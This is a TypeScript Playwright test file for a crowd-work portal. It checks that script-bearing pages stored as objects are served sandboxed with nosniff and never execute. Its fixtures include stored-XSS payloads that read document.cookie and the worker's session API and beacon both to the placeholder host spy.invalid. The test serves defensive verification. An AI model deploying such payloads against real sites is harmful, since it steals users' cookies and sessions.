// Pages with scripts, stored as objects by anybody, opened on the very port of the portal by a worker who is signed in.
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import type { Response } from 'playwright-core'
import { BUCKET } from '../fixtures.ts'
import { until } from '../until.ts'
import { atDesk, type Desk } from './testing/desk.ts'
import { house } from './testing/house.ts'
import { put } from './testing/objects.ts'
import { button, rows } from './testing/portal.ts'
import { PRESIGNED } from './testing/presigned.ts'

const SPY = `
  const say = what => { new Image().src = 'https://spy.invalid/' + what }
  say('ran')
  say('cookie-' + encodeURIComponent(document.cookie))
  fetch('/worker/api/session').then(answer => answer.text()).then(text => say('session-' + encodeURIComponent(text)))`

/** Each asks for a picture without a script too: that it did shows that the page was really there. */
const PAGES: Record<string, [contentType: string, body: string]> = {
  'page.html': ['text/html', `<!doctype html><p>stored<img src="https://spy.invalid/shown"><script>${SPY}</script>`],
  'loud.html': [
    'Text/HTML; charset=utf-8',
    `<p onclick="0">stored<img src="https://spy.invalid/shown" onerror="${"new Image().src='https://spy.invalid/ran'"}">`,
  ],
  'page.svg': [
    'image/svg+xml',
    `<svg xmlns="http://www.w3.org/2000/svg"><text y="20">stored</text><image href="https://spy.invalid/shown"/><script><![CDATA[${SPY}]]></script></svg>`,
  ],
  'page.xhtml': [
    'application/xhtml+xml',
    `<html xmlns="http://www.w3.org/1999/xhtml"><body>stored<img src="https://spy.invalid/shown"/><script><![CDATA[${SPY}]]></script></body></html>`,
  ],
  'page.txt': ['text/plain', `<p>stored<img src="https://spy.invalid/shown"><script>${SPY}</script>`],
}

const template = `<crowd-form></crowd-form>
  <iframe title="Stored" src="{{ task.input.page | grant_read_access }}"></iframe>`
/** The last: the task behind goes with the one that is declined, perhaps while its object is on its way. */
const mayComplain = /spy\.invalid|Blocked script execution|sandboxed|410 \(Gone\) \(\S+\/objects\//

/** What the worker's browser asked the spy for since. */
function spyOn({ context }: Desk): string[] {
  const told: string[] = []
  context.on('request', request => {
    const { hostname, pathname } = new URL(request.url())
    if (hostname === 'spy.invalid') told.push(pathname.slice(1))
  })
  return told
}

async function isLockedUp(response: Response | null, told: string[]): Promise<void> {
  const headers = await response!.allHeaders()
  assert.equal(response!.status(), 200)
  assert.equal(headers['content-security-policy'], 'sandbox')
  assert.equal(headers['x-content-type-options'], 'nosniff')
  await until(
    async () => told,
    all => all.includes('shown'),
  )
}

describe('a stored page runs no script', () => {
  for (const version of ['v4', 'v2'] as const)
    test(`opened by an address presigned with signature version ${version}`, () =>
      atDesk({ template, inputs: [], mayComplain }, async desk => {
        for (const [key, [type, body]] of Object.entries(PAGES)) {
          await put(key, type, body)
          const told = spyOn(desk)
          const contentType = key === 'page.txt' ? { contentType: 'text/html' } : {}
          const address = await PRESIGNED[version]({ service: house.service, bucket: BUCKET, key, ...contentType })
          await isLockedUp(await desk.page.goto(address), told)
          assert.equal(new URL(desk.page.url()).origin, house.service.url)
          await desk.page.goto(`${house.service.url}/worker`)
          await button(desk.page, 'Start next task').waitFor()
          assert.deepEqual([...new Set(told)], ['shown'], key)
        }
      }))

  const shown = Object.keys(PAGES).filter(key => key !== 'page.txt')
  const inputs = shown.map(key => ({ page: `s3://${BUCKET}/${key}` }))
  test('shown in a task by grant_read_access', () =>
    atDesk({ template, inputs, mayComplain }, async desk => {
      for (const key of shown) {
        await put(key, ...PAGES[key]!)
        const told = spyOn(desk)
        const object = desk.page.waitForResponse(/\/objects\//)
        await rows(desk.page).getByRole('button').first().click()
        await isLockedUp(await object, told)
        await button(desk.page, 'Decline task').click()
        await button(desk.page, 'Start next task').waitFor()
        assert.deepEqual([...new Set(told)], ['shown'], key)
      }
    }))
})
